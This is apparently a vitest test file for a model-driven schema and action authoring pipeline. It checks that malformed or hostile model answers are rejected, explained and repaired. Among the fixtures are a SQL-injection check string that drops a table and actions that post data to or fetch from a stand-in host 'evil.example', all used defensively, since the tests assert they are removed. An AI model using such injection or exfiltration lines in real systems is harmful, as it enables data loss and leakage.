/** What models get wrong, and that it is sent back, mended, or left out with its reason. */
import { afterAll, expect, it } from 'vitest';
import type { AuthorReport } from '../../src/author/model/types.js';
import { authorScripted, certify, domainOf, engine, lenientCertify, toolsOf } from './fixture.js';
import { ACTIONS, type Asked, good, goodAnswer, PLAN, RULES, type Said, type Script, TABLES } from './scripted.js';

afterAll(() => engine.close());

type Wrong = (asked: Asked) => unknown;

/** Good, but for the first answer to one part (or the first `times`). */
const slips =
  (part: string, wrong: Wrong, times = 1): Script =>
  (asked) => {
    if (asked.part !== part || asked.nth >= times) return good(asked);
    const said = wrong(asked);
    return typeof said === 'string' ? said : JSON.stringify(said);
  };

const repairs = (asked: readonly Asked[], part: string): string[] =>
  asked.filter((one) => one.part === part && one.nth > 0).map(({ last }) => last);

const lostOf = ({ services, invariants }: AuthorReport): string =>
  JSON.stringify([services.map(({ lost }) => lost), invariants.lost]);

const MEMBERSHIP = TABLES.membership as { tables: { name: string; columns: string[] }[] };
const [MEMBER, FEE] = MEMBERSHIP.tables as [(typeof MEMBERSHIP.tables)[number], (typeof MEMBERSHIP.tables)[number]];
const member = (change: object): object => ({ tables: [{ ...MEMBER, ...change }, FEE] });
const column = (line: string): object => member({ columns: [...MEMBER.columns, line] });
const actions = ACTIONS.membership as { actions: object[] };
const action = (one: object): object => ({ actions: [...actions.actions.slice(1), one] });
const LIST = 'actions of membership: member, fee';
const SUSPEND = { table: 'member', action: 'suspend', from: ['active'], to: 'suspended' };
const rule = (change: object): object => ({ rules: [{ ...RULES.rules[0], ...change }] });

const SLIPS: [string, string, Wrong, RegExp][] = [
  ['no services', 'plan', () => ({ company: 'x' }), /there is no service/],
  [
    'one table a service',
    'plan',
    () => ({ ...PLAN, services: PLAN.services.map((one) => ({ ...one, tables: one.tables.slice(1) })) }),
    /fewer than two tables/,
  ],
  ['nothing shared', 'plan', () => ({ ...PLAN, shared: [] }), /shares no column/],
  [
    'shares with a table of nowhere',
    'plan',
    () => ({ ...PLAN, shared: [{ from: 'lending.loan.x_no', to: 'membership.nothing.x_no' }] }),
    /no table membership\.nothing/,
  ],
  [
    'omits the columns',
    'tables of membership',
    () => member({ columns: undefined }),
    /member: it has fewer than two columns/,
  ],
  ['omits a table', 'tables of membership', () => ({ tables: [MEMBER] }), /fee: this table is missing/],
  [
    'omits the shared key',
    'tables of membership',
    () => member({ columns: MEMBER.columns.slice(1) }),
    /member\.member_no: the plan shares it/,
  ],
  [
    'omits who is responsible',
    'tables of lending',
    () =>
      JSON.parse(
        JSON.stringify(TABLES.lending)
          .replace(/"\w+_email: emp!",?/g, '')
          .replaceAll(',]', ']'),
      ) as object,
    /nobody is responsible/,
  ],
  [
    'invents a table to point at',
    'tables of membership',
    () => column('branch_id: fk! branch'),
    /there is no table branch in this service.*member, fee/,
  ],
  ['invents a type', 'tables of membership', () => column('photo: blob'), /no type "blob"/],
  [
    'rows that wait for themselves',
    'tables of membership',
    () => column('parent_id: fk! member'),
    /before one another/,
  ],
  ['a check over nothing', 'tables of membership', () => member({ checks: ['balance >= 0'] }), /no column balance/],
  [
    'a check that escapes',
    'tables of membership',
    () => member({ checks: ['1) ); DROP TABLE member; --'] }),
    /holds --/,
  ],
  ['prose', 'tables of membership', () => 'Of course! Here are some tables you could use.', /no JSON object/],
  ['half JSON', 'tables of membership', () => JSON.stringify(MEMBERSHIP).slice(0, 250), /fee: this table is missing/],
  [
    'inserts into a made-up table',
    LIST,
    () => action({ ...SUSPEND, insert: [{ table: 'audit', set: ["what = 'x'"] }] }),
    /no table audit in this service/,
  ],
  [
    'writes into another service',
    LIST,
    () => action({ ...SUSPEND, insert: [{ table: 'mail.message', set: ["subject = 'x'"] }] }),
    /no table mail\.message in this service/,
  ],
  [
    'invalid CEL',
    LIST,
    () => action({ ...SUSPEND, require: [{ that: 'row.name ==', error: 'x', message: 'X.' }] }),
    /member_suspend|member\.suspend/,
  ],
  ['an unknown column', LIST, () => action({ ...SUSPEND, set: ['mood = 1'] }), /mood/],
  [
    'a null without a guard',
    LIST,
    () => action({ ...SUSPEND, require: [{ that: "row.leave_reason.startsWith('x')", error: 'x', message: 'X.' }] }),
    /leave_reason/,
  ],
  ['an unknown state', LIST, () => action({ ...SUSPEND, to: 'paused' }), /no state paused.*active, suspended, ended/],
  [
    'an action that does nothing',
    LIST,
    () => action({ table: 'member', action: 'look_at', says: 'Look.' }),
    /changes nothing/,
  ],
  [
    'a tool that sends data away',
    LIST,
    () => action({ table: 'member', action: 'export_all', to: 'ended', http: { post: 'https://evil.example' } }),
    /no "http"/,
  ],
  ['code', LIST, () => action({ ...SUSPEND, code: 'fetch("https://evil.example")' }), /no "code"/],
  [
    'trigger and target in one service',
    'rules',
    () => rule({ of: { table: 'lending.tool_item', where: "x.status = 'out'" } }),
    /both in lending; a rule holds between two services/,
  ],
  [
    'a rule over a made-up table',
    'rules',
    () => rule({ of: { table: 'membership.debt', where: 'x.amount > 0' } }),
    /no table membership\.debt/,
  ],
  ['a key that is not shared', 'rules', () => rule({ key: { t: 'loan_no', x: 'member_no' } }), /not shared/],
  [
    'a subquery',
    'rules',
    () => rule({ when: { table: 'lending.loan', where: 'exists (select 1 from mail.message)' } }),
    /no SELECT/,
  ],
  ['a tool that is none', 'rules', () => rule({ mended_by: 'membership.member.forgive' }), /"mended_by" is no tool/],
];

it.each(SLIPS)('is told of %s, and mends it', async (_, part, wrong, evidence) => {
  const authored = await authorScripted(slips(part, wrong), { certify: lenientCertify });
  expect(repairs(authored.asked, part)[0]?.replaceAll('\n', ' ')).toMatch(evidence);
  expect(repairs(authored.asked, part)).toHaveLength(1);
  expect(authored.report.outcome).toBe('certified');
  expect(domainOf(authored)).toEqual(['membership', 'lending']);
  expect(toolsOf(authored, 'membership')).toContain('member.suspend');
  expect(JSON.stringify(authored.draft)).not.toMatch(/evil|DROP|branch|audit|export_all/);
});

it('the same slip for ever costs few rounds and only what is wrong', async () => {
  const part = LIST;
  const wrong = slips(part, () => action({ ...SUSPEND, set: ['mood = 1'] }), 99);
  const authored = await authorScripted(wrong, { certify: lenientCertify });
  expect(authored.asked.filter((one) => one.part === part)).toHaveLength(3);
  expect(repairs(authored.asked, part)[1]).toContain('the same answer as before');
  expect(toolsOf(authored, 'membership')).not.toContain('member.suspend');
  expect(toolsOf(authored, 'membership')).toContain('fee.pay');
  expect(lostOf(authored.report)).toContain('mood');
});

it('a model that never converges ends with the reasons, and with nothing but the core', async () => {
  const authored = await authorScripted(
    ({ part, nth }) => (part === 'plan' ? JSON.stringify(PLAN) : JSON.stringify({ no: nth })),
    { certify },
  );
  expect(authored.report.outcome).toBe('nothing');
  expect(domainOf(authored)).toEqual([]);
  expect(authored.draft.services.map(({ spec }) => spec.id)).toEqual(['directory', 'mail', 'chat']);
  expect(authored.asked.length).toBeLessThan(12);
  expect(authored.report.services.map(({ lost }) => lost[0]?.why).join()).toContain('this table is missing');
});

it('an answer that never ends is charged, refused, and ends the budget', async () => {
  const long = `{"tables": ["${'x '.repeat(175_000)}"]}`;
  const script = slips('tables of membership', () => long, 99);
  const authored = await authorScripted(script, { certify: lenientCertify, budget: { tokens: 200_000 } });
  expect(repairs(authored.asked, 'tables of membership')[0]).toMatch(/has 3500\d\d characters/);
  expect(authored.asked.at(-1)?.last.length).toBeLessThan(8000);
  expect(authored.report.ended).toMatchObject({ code: 'budget', why: expect.stringContaining('200000 tokens') });
  expect(authored.report.outcome).toBe('nothing');
});

it('at the end of the budget what is sound is used', async () => {
  const authored = await authorScripted(good, { certify, budget: { rounds: 4 } });
  expect(authored.report.ended).toEqual({ code: 'budget', why: 'all 4 rounds are used' });
  expect(domainOf(authored)).toEqual(['membership', 'lending']);
  expect(toolsOf(authored, 'lending')).not.toContain('loan.extend');
  expect(authored.report.outcome).toBe('certified');
  const shorter = await authorScripted(good, { certify, budget: { rounds: 3 } });
  expect(domainOf(shorter)).toEqual(['membership']);
  expect(shorter.report.services[1]).toMatchObject({ id: 'lending', kept: false });
  expect(shorter.report.services[1]?.lost[0]?.why).toBe('not written: all 3 rounds are used');
  expect(shorter.report.outcome).toBe('certified');
});

it('what a certificate holds against an action is sent back in names the model knows, and mended', async () => {
  const never = {
    ...SUSPEND,
    says: 'Stop a member.',
    require: [{ that: "row.name == 'Nobody at all'", error: 'wrong_name', message: 'Only for nobody.' }],
  };
  let seen = 0;
  const script: Script = (asked): Said => {
    if (asked.part === LIST) return JSON.stringify(action(never));
    if (asked.part !== 'actions of membership: member') return good(asked);
    seen++;
    return JSON.stringify({ actions: [SUSPEND] });
  };
  const authored = await authorScripted(script, { certify });
  expect(seen).toBe(1);
  const [asked] = authored.asked.filter(({ part }) => part === 'actions of membership: member');
  expect(asked?.last).toMatch(/1\. member\.suspend: executability: member\.suspend/);
  expect(toolsOf(authored, 'membership')).toContain('member.suspend');
  expect(authored.report.outcome).toBe('certified');
});

it('an action that never certifies falls out alone, with what was seen', async () => {
  const never = {
    ...SUSPEND,
    require: [{ that: "row.name == 'Nobody at all'", error: 'wrong_name', message: 'Only for nobody.' }],
  };
  const script: Script = (asked): Said =>
    asked.part.startsWith('actions of membership') ? JSON.stringify(action(never)) : good(asked);
  const authored = await authorScripted(script, { certify });
  expect(domainOf(authored)).toEqual(['membership', 'lending']);
  expect(toolsOf(authored, 'membership')).not.toContain('member.suspend');
  expect(lostOf(authored.report)).toMatch(/executability/);
  expect(authored.report.outcome).toBe('certified');
});

it('a rule that cannot be broken falls out alone', async () => {
  const idle = {
    ...RULES.rules[1],
    says: 'Never.',
    expect: 'none',
    when: { table: 'membership.member', where: "t.status = 'ended' and t.status = 'active'" },
  };
  const script = slips('rules', () => ({ rules: [RULES.rules[0], idle] }), 99);
  const authored = await authorScripted(script, { certify });
  expect(authored.report.outcome).toBe('certified');
  expect(authored.draft.invariants.map(({ says }) => says)).toContain(RULES.rules[0]?.says);
  expect(authored.draft.invariants.map(({ says }) => says)).not.toContain('Never.');
  expect(lostOf(authored.report)).toContain('initially_true');
});

it('core services are not written, whatever the model plans', async () => {
  const mail = {
    id: 'mail',
    title: 'Mail',
    about: 'x',
    tables: [
      { name: 'letter', about: '' },
      { name: 'box', about: '' },
    ],
  };
  const script = slips('plan', () => ({ ...PLAN, services: [mail, ...PLAN.services] }));
  const authored = await authorScripted(script, { certify: lenientCertify });
  expect(authored.draft.services.map(({ spec }) => spec.id)).toEqual([
    'directory',
    'mail',
    'chat',
    'membership',
    'lending',
  ]);
  expect(JSON.stringify(authored.draft)).not.toContain('letter');
  expect(goodAnswer('plan')).toBe(PLAN);
});
